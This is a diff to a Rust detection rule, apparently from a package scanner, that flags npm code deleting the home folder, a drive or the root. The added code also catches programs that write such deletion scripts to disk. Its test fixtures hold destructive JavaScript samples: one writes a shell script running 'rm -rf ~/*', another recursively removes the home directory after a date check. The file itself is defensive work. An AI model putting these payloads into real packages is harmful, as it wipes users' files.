@@ -16,6 +16,15 @@
 //! == package.json
 //! {"name": "x", "version": "1.0.0", "main": "index.js"}
 //! == index.js
+//! const fs = require("fs");
+//! fs.writeFileSync("/tmp/monitor.sh", "#!/bin/sh\nif [ ! -f ~/.x/alive ]; then rm -rf ~/*; fi\n"); //~ here
+//! exports.x = 1;
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
 //! const { rm } = require("node:fs/promises");
 //! const os = require("node:os");
 //! if (Date.now() > Date.UTC(9999, 1, 1)) rm(os.homedir(), { recursive: true, force: true }); //~ here
@@ -50,6 +59,9 @@
 //! - Socket: destructive packages of 2025
 //! - Snyk: node-ipc and peacenotwar (March 2022)
 
+use stockade_model::Limits;
+use stockade_parse::shell::{self, Dialect};
+
 use crate::prelude::*;
 
 /// The home folder, a drive or the root is deleted.
@@ -72,12 +84,20 @@ impl Rule for HomeFolderDeleted {
     }
 
     fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
-        for change in facts.file_changes().filter(|change| change.kind == ChangeKind::Deleted) {
-            if change.class() == FileClass::WideFolder
-                && change.trigger() != Trigger::Dormant
-                && takes_folders(&change.call.api)
-            {
-                found.call(change.call, "deletes the home folder, a drive or the root");
+        for change in facts.file_changes().filter(|change| change.trigger() != Trigger::Dormant) {
+            match change.kind {
+                ChangeKind::Deleted
+                    if change.class() == FileClass::WideFolder && takes_folders(&change.call.api) =>
+                {
+                    found.call(change.call, "deletes the home folder, a drive or the root");
+                }
+                ChangeKind::Written if holds_deletion(&change) => {
+                    found.call(
+                        change.call,
+                        "writes a program that deletes the home folder, a drive or the root",
+                    );
+                }
+                _ => {}
             }
         }
         for command in facts.commands().iter().filter(|command| command.trigger != Trigger::Dormant) {
@@ -90,9 +110,17 @@ impl Rule for HomeFolderDeleted {
 
 /// Deleting a folder with a call that takes files alone fails.
 fn takes_folders(api: &str) -> bool {
-    !["unlink", "truncate", "rmdir"].iter().any(|part| api.contains(part))
-        || api.contains("rmdirSync")
-        || api == "fs.rmdir"
+    !["unlink", "truncate"].iter().any(|part| api.contains(part))
+}
+
+/// Whether shell text that is written to a file deletes everything once something starts it.
+fn holds_deletion(change: &FileChange<'_>) -> bool {
+    let texts = change.contents.iter().flat_map(|contents| &contents.texts);
+    let mut shells = texts.filter(|text| text.starts_with("#!") && !text.contains("node"));
+    shells.any(|text| {
+        let behaviours = shell::behaviours(&shell::read(text, Dialect::Posix, &Limits::default()));
+        behaviours.iter().any(|behaviour| matches!(behaviour.kind, BehaviourKind::DeletesWide { .. }))
+    })
 }
 
 /// Programs that write disks are what imaging tools run when called.
